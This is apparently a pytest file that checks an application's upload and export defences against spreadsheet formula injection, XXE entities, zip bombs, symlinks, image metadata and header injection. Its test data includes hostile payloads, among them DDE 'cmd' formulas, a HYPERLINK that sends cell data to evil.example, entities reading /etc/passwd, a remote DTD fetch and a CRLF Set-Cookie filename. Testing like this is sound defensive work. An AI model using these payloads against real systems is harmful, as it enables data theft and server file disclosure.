"""Files that people send and files that people get: ASVS V5, 1.2.10, 1.5.1, 14.2.8."""

import io
import struct
import zipfile
from contextlib import suppress
from random import Random

import pytest

from shared_apps.foundation.tables import BadTable, as_csv, as_xlsx, read_file
from shared_apps.foundation.tables.parser import PARTS_MOST
from shared_apps.foundation.tables.reading import LARGEST_BYTES
from shared_apps.tenancy.refs import TenantRef
from shared_apps.ui.downloads import LIST, file_answer
from shared_apps.ui.lists import csv_answer
from tenant_apps.documents.decisions.pictures import PIXELS_MOST, SIDE_MOST, BadPicture, cleaned
from tests.fixtures.pictures import PLACE, chunk, jpeg, png, segment

FORMULAS = [
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\x00=1+1",
    '=HYPERLINK("https://evil.example?x="&A1,"here")', "=IMPORTXML(A1,\"//a\")", "-", "+", "@", "=",
]  # fmt: skip
WORKBOOK = "xl/workbook.xml"


def archive(parts: dict[str, bytes], pack: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", pack) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return made.getvalue()


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_of_an_export_begins_a_formula(text: str, tenant_a: TenantRef) -> None:
    """In heads too: companies and questions are named there."""
    import csv

    for content in (csv_answer("x", [text], [[text]]).content, as_csv([text], [[text]])):
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert [row[0][0] for row in rows] == ["'", "'"], rows


def test_numbers_of_an_export_stay_numbers(tenant_a: TenantRef) -> None:
    assert as_csv(["n"], [["-12.50"]]).decode("utf-8-sig").splitlines()[1] == "-12.50"
    assert csv_answer("x", ["n"], [["-12.50"], [None]]).content.decode("utf-8-sig").splitlines()[1:] == ["-12.50", '""']


def test_quotes_and_line_ends_stay_inside_their_cell(tenant_a: TenantRef) -> None:
    """RFC 4180 2.6 and 2.7."""
    assert b'"a ""b"", c\nd"' in csv_answer("x", ["n"], [['a "b", c\nd']]).content


def test_a_workbook_holds_texts_and_no_formulas() -> None:
    content = as_xlsx(["h"], [[text] for text in FORMULAS if text.isprintable()])
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<hyperlink" not in sheet


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (archive({WORKBOOK: bytes(130 * 1024 * 1024)}), "unpacks_too_large"),
        (archive({WORKBOOK: b"x", **{f"a{at}": b"" for at in range(PARTS_MOST + 1)}}), "unpacks_too_large"),
        (archive({WORKBOOK: bytes(3 * 1024 * 1024)}), "unpacks_too_large"),
        (archive({"../../etc/passwd": b"x"}), "not_a_table"),
        (archive({WORKBOOK: b"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"}), "not_a_table"),
        (b"PK\x03\x04" + bytes(40), "not_a_table"),
        (b"\xd0\xcf\x11\xe0" + bytes(40), "old_or_encrypted"),
        (b"MZ\x90\x00\x03\x00\x00\x00", "not_a_table"),
        (b"x" * (LARGEST_BYTES + 1), "too_large"),
        (b"   \n", "empty"),
    ],
    ids=["bomb", "many_parts", "dense", "no_workbook", "entity", "broken", "old", "program", "too_large", "blank"],
)
def test_a_bad_table_is_refused_before_it_is_unpacked(content: bytes, why: str) -> None:
    with pytest.raises(BadTable) as refused:
        read_file(content)
    assert refused.value.args[0] == why


def test_an_entity_of_a_workbook_reads_no_file() -> None:
    """A whole workbook whose texts name a file of the server: none of it comes back."""
    good = zipfile.ZipFile(io.BytesIO(as_xlsx(["h"], [["MARK"]])))
    parts = {one: good.read(one) for one in good.namelist()}
    head, rest = parts["xl/sharedStrings.xml"].split(b"?>", 1)
    trick = b"?><!DOCTYPE sst [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>"
    parts["xl/sharedStrings.xml"] = head + trick + rest.replace(b"MARK", b"&e;")
    try:
        rows = read_file(archive(parts))
    except BadTable:
        return
    from pathlib import Path

    assert Path("/etc/hostname").read_text().strip() not in str(rows)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16-be", "utf-16"])
@pytest.mark.parametrize(
    "entities",
    [
        '<!ENTITY e SYSTEM "file:///etc/hostname">',
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;&b;&b;&b;&b;">',
        '<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;',
        "",
    ],
    ids=["file", "growing", "fetched", "bare"],
)
def test_an_entity_of_a_stock_file_reads_nothing_and_does_not_grow(entities: str, encoding: str) -> None:
    """In a child process; in every encoding that an XML parser guesses by itself."""
    from tenant_apps.integrations.files.child import Unreadable, parse

    text = f'<!DOCTYPE rows [{entities}]><rows><row sku="&e;" warehouse="w" on_hand="1"/></rows>'
    with pytest.raises(Unreadable, match=r"document type|not UTF-8|head must name"):
        parse(text.encode(encoding))


def test_a_link_inside_an_archive_is_no_link() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        link = zipfile.ZipInfo(WORKBOOK)
        link.external_attr = 0o120777 << 16
        file.writestr(link, "/etc/passwd")
    with pytest.raises(BadTable):
        read_file(made.getvalue())


@pytest.mark.parametrize(
    "beside",
    [
        (chunk(b"tEXt", b"Comment\x00" + PLACE), chunk(b"eXIf", b"MM\x00*" + PLACE), chunk(b"tIME", bytes(7))),
        (chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + PLACE), chunk(b"zzZz", PLACE)),
    ],
)
def test_a_png_keeps_its_pixels_and_nothing_beside_them(beside: tuple[bytes, ...]) -> None:
    sent = png(2, 2, *beside) + PLACE
    assert PLACE in sent
    assert cleaned(sent) == png()


def test_a_jpeg_keeps_its_pixels_and_nothing_beside_them() -> None:
    profile = segment(0xE2, b"ICC_PROFILE\x00" + bytes(8))
    exif, note = segment(0xE1, b"Exif\x00\x00" + PLACE), segment(0xFE, PLACE)
    sent = jpeg(8, 8, exif, profile, note, segment(0xED, b"Photoshop 3.0\x00" + PLACE)) + b"trailing" + PLACE
    assert cleaned(sent) == jpeg(8, 8, profile)


def test_cleaning_twice_changes_nothing() -> None:
    for one in (png(2, 2, chunk(b"tEXt", PLACE)), jpeg(8, 8, segment(0xE1, PLACE))):
        assert cleaned(cleaned(one)) == cleaned(one)


@pytest.mark.parametrize("make", [png, jpeg])
@pytest.mark.parametrize(("width", "height"), [(SIDE_MOST + 1, 1), (1, SIDE_MOST + 1), (8000, PIXELS_MOST // 8000 + 1)])
def test_a_flood_of_pixels_is_refused(make: object, width: int, height: int) -> None:
    with pytest.raises(BadPicture, match="too_many_pixels"):
        cleaned(make(width, height))  # type: ignore[operator]
    assert cleaned(make(8000, PIXELS_MOST // 8000))  # type: ignore[operator]


@pytest.mark.parametrize("make", [png, jpeg])
def test_part_of_a_picture_is_no_picture(make: object) -> None:
    """Every way to cut it short, and 2,000 random changes: a picture, or one sentence, and never an error of ours."""
    whole: bytes = make()  # type: ignore[operator]
    for at in range(len(whole)):
        with pytest.raises(BadPicture):
            cleaned(whole[:at])
    random = Random(7)
    for _ in range(2000):
        bent = bytearray(whole)
        bent[random.randrange(len(bent))] = random.randrange(256)
        with suppress(BadPicture):
            assert cleaned(bytes(bent))[:2] == whole[:2]


@pytest.mark.parametrize("content", [b"", b"GIF89a", b"<svg onload='alert(1)'/>", b"%PDF-1.7", b"RIFF....WEBP"])
def test_other_files_are_no_pictures(content: bytes) -> None:
    with pytest.raises(BadPicture):
        cleaned(content)


def test_a_png_without_its_head_first_is_refused() -> None:
    sent = png()
    head = sent[8:33]
    with pytest.raises(BadPicture):
        cleaned(sent[:8] + sent[33:])
    with pytest.raises(BadPicture):
        cleaned(sent[:33] + head + sent[33:])
    with pytest.raises(BadPicture):
        cleaned(sent[:16] + struct.pack(">II", 0, 1) + sent[24:])


@pytest.mark.parametrize(
    "name", ['a"b.pdf', "a\r\nSet-Cookie: k=1.pdf", "合同 №1.pdf", "../../x.pdf", "a;b.pdf", "a\x00b"]
)
def test_a_name_of_a_file_stays_one_header(name: str, tenant_a: TenantRef) -> None:
    """RFC 6266: quoted or in percent signs, and never a line of its own."""
    try:
        sent = file_answer(LIST, b"x", "application/pdf", name).headers["Content-Disposition"]
    except ValueError:
        return
    assert sent.startswith("attachment; filename")
    assert "\n" not in sent and "\r" not in sent and "\x00" not in sent
